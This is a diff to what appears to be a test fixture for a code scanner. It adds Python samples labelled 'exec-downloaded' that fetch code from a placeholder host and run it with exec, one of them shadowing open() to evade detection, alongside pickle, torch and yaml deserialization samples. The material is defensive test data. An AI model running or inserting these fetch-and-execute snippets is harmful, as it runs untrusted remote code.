@@ -38,6 +38,16 @@ const hidden: readonly (readonly [way: string, rule: RuleId, code: string])[] = 
     'exec-downloaded',
     'import runpy, requests\nrunpy.run_path(requests.get("https://a.io").text)',
   ],
+  [
+    'a downloaded file that is opened',
+    'exec-downloaded',
+    'from urllib.request import urlretrieve\nexec(open(urlretrieve("https://a.io/b.py")[0]).read())',
+  ],
+  [
+    'a key of an answer behind an open of its own',
+    'exec-downloaded',
+    'import requests\ndef open(text):\n    return text\nexec(open(requests.get("https://a.io").json()["code"]))',
+  ],
   ['pickle', 'unsafe-deserializer', 'import pickle\npickle.load(open("a", "rb"))'],
   ['torch without weights_only', 'unsafe-deserializer', 'import torch\ntorch.load("a", weights_only=False)'],
   ['yaml', 'unsafe-deserializer', 'import yaml\nyaml.unsafe_load(text)'],
